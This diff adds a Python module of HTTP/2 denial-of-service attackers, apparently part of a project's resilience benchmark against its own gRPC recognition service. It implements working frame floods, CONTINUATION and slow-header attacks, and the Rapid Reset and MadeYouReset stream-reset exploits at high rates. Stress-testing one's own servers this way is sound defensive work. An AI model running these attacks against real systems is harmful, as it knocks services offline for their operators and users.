@@ -1,0 +1,214 @@
+"""Attackers that send frames of HTTP/2 without end."""
+
+from __future__ import annotations
+
+import asyncio
+from collections.abc import Callable
+
+from facet.benchmarks.hostile.attackers.attacker import Attacker, Pace, Tally, Target, crowd
+from facet.benchmarks.hostile.attackers.frames import (
+    HEALTH_CHECK,
+    RECOGNITION,
+    continuation_frame,
+    data_frame,
+    header_block,
+    headers_frame,
+    ping_frame,
+    request_headers,
+    reset_frame,
+    settings_frame,
+    streams,
+    unary_call,
+    window_frame,
+)
+from facet.benchmarks.hostile.attackers.wire import raw_http2
+
+_CONNECTIONS = 4
+_BATCH = 100
+_FRAMES_PER_SECOND = 20_000
+_RESETS_PER_SECOND = 4_000
+_CALLS_PER_SECOND = 2_000
+_LAST_STREAM = 2**30
+
+
+class FrameFlood(Attacker):
+    """Sends one frame again and again."""
+
+    def __init__(self, name: str, what: str, frame: Callable[[], bytes]) -> None:
+        self.name = f"{name}-flood"
+        self.what = f"sends {_FRAMES_PER_SECOND:,} {what} per second"
+        self._frame = frame
+
+    async def attack(self, target: Target, tally: Tally) -> None:
+        """Send the frame."""
+        pace, batch = Pace(_FRAMES_PER_SECOND), self._frame() * _BATCH
+
+        async def member(_: int) -> None:
+            async with raw_http2(target, tally) as writer:
+                while not writer.is_closing():
+                    await pace.wait(_BATCH)
+                    writer.write(batch)
+                    await writer.drain()
+                    tally["frames"] += _BATCH
+
+        await crowd(_CONNECTIONS, member, tally)
+
+
+class ContinuationFlood(Attacker):
+    """Sends headers that never end."""
+
+    name = "continuation-flood"
+    what = "sends headers that never end, in CONTINUATION frames of 4 KB, 20 MB per second"
+
+    async def attack(self, target: Target, tally: Tally) -> None:
+        """Send CONTINUATION frames."""
+        pace, start = Pace(5_000), headers_frame(1, header_block(request_headers(HEALTH_CHECK)), end_headers=False)
+        endless = continuation_frame(1, header_block([(f"x-{at}", "x" * 500) for at in range(8)]))
+
+        async def member(_: int) -> None:
+            async with raw_http2(target, tally) as writer:
+                writer.write(start)
+                while not writer.is_closing():
+                    await pace.wait(10)
+                    writer.write(endless * 10)
+                    await writer.drain()
+                    tally["frames"] += 10
+
+        await crowd(_CONNECTIONS, member, tally)
+
+
+class CallFlood(Attacker):
+    """Opens calls at a rate, and does something with each."""
+
+    per_second = _CALLS_PER_SECOND
+    batch = 20
+    path = RECOGNITION + "Identify"
+
+    def one(self, stream: int, block: bytes) -> bytes:
+        """The frames of a call."""
+        raise NotImplementedError
+
+    async def attack(self, target: Target, tally: Tally) -> None:
+        """Open calls."""
+        pace, block = Pace(self.per_second), header_block(request_headers(self.path, target.token))
+
+        async def member(_: int) -> None:
+            async with raw_http2(target, tally) as writer:
+                for first in range(1, _LAST_STREAM, 2 * self.batch):
+                    await pace.wait(self.batch)
+                    writer.write(b"".join(self.one(stream, block) for stream in streams(self.batch, first)))
+                    await writer.drain()
+                    tally["calls"] += self.batch
+                    if writer.is_closing():
+                        return
+
+        await crowd(_CONNECTIONS, member, tally)
+
+
+class RapidReset(CallFlood):
+    """Opens streams and resets them at once (CVE-2023-44487)."""
+
+    name = "rapid-reset"
+    what = f"opens {_RESETS_PER_SECOND:,} streams per second and resets each at once"
+    per_second = _RESETS_PER_SECOND
+
+    def one(self, stream: int, block: bytes) -> bytes:
+        """A call that is reset."""
+        return headers_frame(stream, block) + reset_frame(stream)
+
+
+class MadeYouReset(CallFlood):
+    """Makes the server reset streams (CVE-2025-8671): each is complete, and then breaks the protocol."""
+
+    name = "made-you-reset"
+    what = f"makes the server reset {_CALLS_PER_SECOND:,} streams per second, by frames that break the protocol"
+
+    def one(self, stream: int, block: bytes) -> bytes:
+        """A call after which the window grows by nothing, which the server must answer with a reset."""
+        return unary_call(stream, block) + window_frame(stream, 0)
+
+
+class RefusedCalls(CallFlood):
+    """Makes calls that are refused: with a token because they are empty, without one because it is missing."""
+
+    name = "refused-calls"
+    what = f"makes {_CALLS_PER_SECOND:,} small calls per second that are refused"
+
+    def one(self, stream: int, block: bytes) -> bytes:
+        """An empty call."""
+        return unary_call(stream, block)
+
+
+class UnknownMethods(CallFlood):
+    """Calls methods that do not exist."""
+
+    name = "unknown-methods"
+    what = f"calls {_CALLS_PER_SECOND:,} methods per second that do not exist"
+    path = "/facet.v1.RecognitionService/Nothing"
+
+    def one(self, stream: int, block: bytes) -> bytes:
+        """An empty call."""
+        return unary_call(stream, block)
+
+
+class EmptyData(Attacker):
+    """Sends empty DATA frames without end on an open call."""
+
+    name = "empty-data-flood"
+    what = f"sends {_FRAMES_PER_SECOND:,} empty DATA frames per second on open calls"
+
+    async def attack(self, target: Target, tally: Tally) -> None:
+        """Open one call on each connection and send empty frames."""
+        pace, block = Pace(_FRAMES_PER_SECOND), header_block(request_headers(RECOGNITION + "Identify", target.token))
+        start, batch = headers_frame(1, block), data_frame(1, b"") * _BATCH
+
+        async def member(_: int) -> None:
+            async with raw_http2(target, tally) as writer:
+                writer.write(start)
+                while not writer.is_closing():
+                    await pace.wait(_BATCH)
+                    writer.write(batch)
+                    await writer.drain()
+                    tally["frames"] += _BATCH
+
+        await crowd(_CONNECTIONS, member, tally)
+
+
+class SlowHeaders(Attacker):
+    """Never finishes the headers of a call."""
+
+    name = "slow-headers"
+    what = "sends the headers of calls on 200 connections a few bytes per second"
+
+    async def attack(self, target: Target, tally: Tally) -> None:
+        """Send a header at a time."""
+        start = headers_frame(1, header_block(request_headers(HEALTH_CHECK)), end_headers=False)
+        little = continuation_frame(1, header_block([("x", "y")]))
+
+        async def member(_: int) -> None:
+            async with raw_http2(target, tally) as writer:
+                writer.write(start)
+                while not writer.is_closing():
+                    await asyncio.sleep(1)
+                    writer.write(little)
+                    await writer.drain()
+
+        await crowd(200, member, tally)
+
+
+def _window_update() -> bytes:
+    return window_frame(0, 1)
+
+
+ATTACKERS = (
+    lambda: FrameFlood("ping", "PING frames", ping_frame),
+    lambda: FrameFlood("settings", "SETTINGS frames", settings_frame),
+    lambda: FrameFlood("window-update", "WINDOW_UPDATE frames", _window_update),
+    ContinuationFlood,
+    EmptyData,
+    RapidReset,
+    MadeYouReset,
+    RefusedCalls,
+    UnknownMethods,
+    SlowHeaders,
+)
